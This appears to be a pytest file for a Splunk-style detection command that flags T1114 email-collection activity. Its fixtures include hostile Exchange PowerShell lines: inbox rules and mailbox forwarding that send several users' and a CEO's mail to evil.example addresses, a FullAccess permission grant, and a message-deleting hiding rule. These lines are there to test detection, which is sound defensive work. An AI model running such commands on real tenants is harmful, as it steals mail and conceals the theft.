"""One finding, one record of it: `t1114_findings` and `expand=true` through the real command
(bin/t1114_command.py in a subprocess, SCP v2), on both record paths.

The events are the ones a SOC counts wrong when findings are flattened into independently
de-duplicated multivalue fields: a script block touching three mailboxes, a user's rule on
their own mailbox, a suppressed finding, an event with findings of two sub-techniques.
"""

import json
import os
import shutil

import pytest

from app.finding import OUTPUT_FIELDS
from tools.chunked_client import run, script_path
from tests.helpers import add_account_row, comparable

SPLUNKLIB = dict(os.environ, T1114_RECORD_PATH="splunklib")
PATHS = {"block": None, "splunklib": SPLUNKLIB}

THREE_MAILBOXES = {
    "sourcetype": "XmlWinEventLog", "EventCode": "4104", "Computer": "ws1.contoso.com",
    "user": "CONTOSO\\admin", "test_id": "three-mailboxes",
    "ScriptBlockText": (
        "New-InboxRule -Name keep -Mailbox alice@contoso.com -ForwardTo drop1@evil.example\n"
        "New-InboxRule -Name team -Mailbox bob@contoso.com -RedirectTo drop2@evil.example\n"
        "Set-Mailbox carol@contoso.com -ForwardingSmtpAddress smtp:drop3@evil.example\n"),  # -Identity by position
}
EXPECTED_THREE = [  # (rule, mailbox, destination), in script order
    ("t1114_003_inbox_rule_forward_cmdlet", "alice@contoso.com", "drop1@evil.example"),
    ("t1114_003_inbox_rule_forward_cmdlet", "bob@contoso.com", "drop2@evil.example"),
    ("t1114_003_mailbox_forwarding", "carol@contoso.com", "drop3@evil.example"),
]

# Office 365 audit of a rule dana made in her own mailbox from OWA: ObjectId names the rule.
OWN_RULE = {
    "sourcetype": "o365:management:activity", "_time": "1795352400", "test_id": "own-rule",
    "_raw": json.dumps({
        "CreationTime": "2026-11-22T13:00:00", "Operation": "New-InboxRule", "RecordType": 1, "UserType": 0,
        "Workload": "Exchange", "ResultStatus": "True", "UserId": "dana@contoso.com", "ClientIP": "198.51.100.7",
        "ObjectId": "EURPR05A003.prod.outlook.com/Microsoft Exchange Hosted Organizations/contoso.onmicrosoft.com/"
                    "dana\\keep-up",
        "Parameters": [{"Name": "Name", "Value": "keep-up"}, {"Name": "ForwardTo", "Value": "dana.home@mail.example"},
                       {"Name": "StopProcessingRules", "Value": "True"}]}),
}
# An admin changing bob's rule by its identity: the mailbox is the part before \<rule name>.
ADMIN_SET_RULE = {
    "sourcetype": "XmlWinEventLog", "EventCode": "4104", "test_id": "admin-set-rule", "user": "CONTOSO\\admin",
    "ScriptBlockText": 'Set-InboxRule -Identity "bob@contoso.com\\Team" -ForwardTo ext@partner.example',
}
TWO_SUB_TECHNIQUES = {
    "sourcetype": "XmlWinEventLog", "EventCode": "4104", "Computer": "ws2.contoso.com",
    "user": "CONTOSO\\mallory", "test_id": "two-sub-techniques",
    "ScriptBlockText": (
        "Add-MailboxPermission -Identity ceo@contoso.com -User mallory@contoso.com -AccessRights FullAccess\n"
        "New-InboxRule -Name x -Mailbox ceo@contoso.com -ForwardTo collect@evil.example\n"),
}
QUIET = {"sourcetype": "XmlWinEventLog", "EventCode": "4104", "ScriptBlockText": "Get-Date", "test_id": "quiet"}
# The rules these events are about. Another rule may fire on them too (a site's or a new one):
# the tests look at these rules' findings, never at the whole list.
RULES_UNDER_TEST = {rule for rule, _, _ in EXPECTED_THREE}


def command(app_dir, records, args, path="block"):
    result = run(script_path(app_dir), records, args=args, env=PATHS[path])
    assert result["exit_code"] == 0, result["stderr"][-2000:]
    for record in result["records"]:
        assert set(OUTPUT_FIELDS) <= set(record)
    return comparable(result["records"])


def findings_of(record):
    """t1114_findings as `| spath input=t1114_findings` needs it: a JSON array of objects."""
    parsed = json.loads(record["t1114_findings"])
    assert isinstance(parsed, list) and parsed and all(isinstance(item, dict) for item in parsed)
    return parsed


def of_rules_under_test(items, key):
    """The findings (key "rule") or expanded rows (key "t1114_rule") of RULES_UNDER_TEST, in order;
    rows without findings (key empty) too."""
    return [item for item in items if not item[key] or item[key] in RULES_UNDER_TEST]


def values(value):
    return value if isinstance(value, list) else ([value] if value else [])


@pytest.mark.parametrize("path", sorted(PATHS))
def test_three_mailboxes_in_one_script_block_as_t1114_findings(built_app, path):
    (record,) = command(built_app, [THREE_MAILBOXES], [], path)
    findings = of_rules_under_test(findings_of(record), "rule")
    # Two calls of the same rule are two findings, each with its own mailbox and destination.
    assert [(f["rule"], f["mailbox"], [d["address"] for d in f["destinations"]]) for f in findings] == [
        (rule, mailbox, [destination]) for rule, mailbox, destination in EXPECTED_THREE]
    for finding in findings:
        assert finding["status"] == "finding" and finding["mitre_technique_id"] == "T1114.003"
        assert finding["actor"] == "CONTOSO\\admin" and finding["suppressed_by"] is None
        assert [d["external"] for d in finding["destinations"]] == [True]
        assert finding["severity"] == "high" and finding["risk_score"] == 75
        assert finding["mailbox"] in finding["reason"]
    # The event summary keeps every mailbox, none vanishes from object.
    assert sorted(values(record["object"])) == ["alice@contoso.com", "bob@contoso.com", "carol@contoso.com"]
    assert record["t1114_status"] == "finding" and record["mitre_technique_id"] == "T1114.003"


@pytest.mark.parametrize("path", sorted(PATHS))
def test_three_mailboxes_in_one_script_block_expanded(built_app, path):
    rows = of_rules_under_test(command(built_app, [THREE_MAILBOXES], ["expand=true"], path), "t1114_rule")
    assert [(r["t1114_rule"], r["object"], r["t1114_destination"]) for r in rows] == EXPECTED_THREE
    for row, (rule, mailbox, destination) in zip(rows, EXPECTED_THREE):
        assert row["test_id"] == "three-mailboxes" and row["ScriptBlockText"] == THREE_MAILBOXES["ScriptBlockText"]
        assert row["t1114_external_destination"] == destination
        assert isinstance(row["t1114_reason"], str) and mailbox in row["t1114_reason"]
        assert row["t1114_status"] == "finding" and row["mitre_technique_id"] == "T1114.003"
        assert row["risk_score"] == "75" and row["t1114_severity"] == "high"
        (own,) = findings_of(row)  # the row's t1114_findings holds its one finding
        assert own["mailbox"] == mailbox and own["rule"] == rule


@pytest.mark.parametrize("path", sorted(PATHS))
def test_inbox_rule_mailbox_is_the_mailbox_not_the_rule(built_app, path):
    own, admin = command(built_app, [OWN_RULE, ADMIN_SET_RULE], ["expand=true"], path)
    assert own["t1114_rule"] == "t1114_003_inbox_rule_forward_cmdlet"
    assert own["object"] == "dana@contoso.com" and own["user"] == "dana@contoso.com"
    assert findings_of(own)[0]["mailbox"] == "dana@contoso.com"
    assert admin["object"] == "bob@contoso.com" and admin["t1114_destination"] == "ext@partner.example"


def test_own_rule_in_a_script_block_is_the_users_mailbox(built_app):
    record = {"sourcetype": "XmlWinEventLog", "EventCode": "4104", "user": "CONTOSO\\erin",
              "ScriptBlockText": "New-InboxRule -Name fwd -ForwardTo erin@mail.example"}
    (row,) = command(built_app, [record], ["expand=true"])
    assert row["object"] == "CONTOSO\\erin"


@pytest.fixture()
def app_allowlisting_admin(built_app, tmp_path):
    app_dir = str(tmp_path / os.path.basename(built_app))
    shutil.copytree(built_app, app_dir)
    # The row names the mailbox too: only carol's finding is suppressed, not alice's or bob's.
    add_account_row(app_dir, {"account": "CONTOSO\\admin", "mailbox": "carol@contoso.com",
                              "rules": "t1114_003_mailbox_forwarding", "valid_until": "2099-12-31",
                              "reason": "carol's forwarding (CHG-77)"})
    return app_dir


@pytest.mark.parametrize("path", sorted(PATHS))
def test_suppressed_finding_carries_all_its_parts(app_allowlisting_admin, path):
    rows = of_rules_under_test(command(app_allowlisting_admin, [THREE_MAILBOXES], ["mode=all", "expand=true"], path),
                               "t1114_rule")
    assert [r["t1114_status"] for r in rows] == ["finding", "finding", "suppressed"]
    carol = rows[2]
    assert carol["t1114_rule"] == carol["t1114_suppressed_rule"] == "t1114_003_mailbox_forwarding"
    assert carol["mitre_technique_id"] == "T1114.003" and carol["t1114_severity"] == "high"
    assert carol["risk_score"] == "75" and carol["t1114_destination"] == "drop3@evil.example"
    assert carol["object"] == "carol@contoso.com"
    assert "CHG-77" in carol["t1114_suppressed_by"] and "t1114_allowlist_accounts.csv line" in carol["t1114_suppressed_by"]
    (finding,) = findings_of(carol)
    row = finding["suppressed_by"]
    assert row["lookup"] == "t1114_allowlist_accounts.csv" and isinstance(row["line"], int)
    assert row["reason"] == "carol's forwarding (CHG-77)" and row["valid_until"] == "2099-12-31"
    assert row["description"] == carol["t1114_suppressed_by"]
    # The default mode returns the two unsuppressed findings only; the summary form pairs
    # the suppressing row with its own finding inside t1114_findings.
    returned = of_rules_under_test(command(app_allowlisting_admin, [THREE_MAILBOXES], ["expand=true"], path),
                                   "t1114_rule")
    assert [r["object"] for r in returned] == ["alice@contoso.com", "bob@contoso.com"]
    (summary,) = command(app_allowlisting_admin, [THREE_MAILBOXES], [], path)
    statuses = [(f["mailbox"], f["status"], bool(f["suppressed_by"]))
                for f in of_rules_under_test(findings_of(summary), "rule")]
    assert statuses == [("alice@contoso.com", "finding", False), ("bob@contoso.com", "finding", False),
                        ("carol@contoso.com", "suppressed", True)]


@pytest.mark.parametrize("path", sorted(PATHS))
def test_event_with_findings_of_two_sub_techniques(built_app, path):
    (record,) = command(built_app, [TWO_SUB_TECHNIQUES], [], path)
    assert record["mitre_technique_id"] == ["T1114.002", "T1114.003"]
    by_rule = {f["rule"]: f for f in findings_of(record)}
    grant = by_rule["t1114_002_mailbox_permission_grant"]
    assert grant["mitre_technique_id"] == "T1114.002" and grant["mitre_attack"] == ["T1114.002", "T1098.002"]
    assert grant["destinations"] == [] and grant["mailbox"] == "ceo@contoso.com"
    forward = by_rule["t1114_003_inbox_rule_forward_cmdlet"]
    assert forward["mitre_attack"] == ["T1114.003"]
    rows = command(built_app, [TWO_SUB_TECHNIQUES], ["expand=true"], path)
    assert [(r["mitre_technique_id"], r["t1114_rule"]) for r in rows] == [
        ("T1114.002", "t1114_002_mailbox_permission_grant"), ("T1114.003", "t1114_003_inbox_rule_forward_cmdlet")]
    assert rows[0]["t1114_destination"] == "" and rows[1]["t1114_destination"] == "collect@evil.example"
    # A search for one sub-technique counts each finding once, with its own severity.
    assert sum(1 for r in rows if r["mitre_technique_id"] == "T1114.002") == 1
    assert rows[0]["t1114_severity"] == grant["severity"] and rows[1]["t1114_severity"] == forward["severity"]


@pytest.mark.parametrize("path", sorted(PATHS))
def test_mode_all_expand_returns_events_without_findings_once_in_order(built_app, path):
    records = [dict(QUIET, test_id="q1"), THREE_MAILBOXES, dict(QUIET, test_id="q2"), OWN_RULE, dict(QUIET, test_id="q3")]
    rows = of_rules_under_test(command(built_app, records, ["mode=all", "expand=true"], path), "t1114_rule")
    assert [r["test_id"] for r in rows] == ["q1", "three-mailboxes", "three-mailboxes", "three-mailboxes",
                                            "q2", "own-rule", "q3"]
    for row in rows:
        if row["test_id"].startswith("q"):
            assert row["t1114_status"] == "" and row["t1114_findings"] == ""


def test_hiding_rule_carries_t1564_008(built_app):
    record = {"sourcetype": "XmlWinEventLog", "EventCode": "4104", "user": "CONTOSO\\x",
              "ScriptBlockText": "New-InboxRule -Name h -Mailbox a@contoso.com -ForwardTo b@evil.example -DeleteMessage $true"}
    (row,) = command(built_app, [record], ["expand=true"])
    (finding,) = findings_of(row)
    assert finding["mitre_attack"] == ["T1114.003", "T1564.008"] and finding["severity"] == "critical"


def test_expand_is_refused_when_not_a_boolean(built_app):
    result = run(script_path(built_app), [THREE_MAILBOXES], args=["expand=maybe"])
    assert any(level == "ERROR" for level, _ in result["messages"]) and result["records"] == []
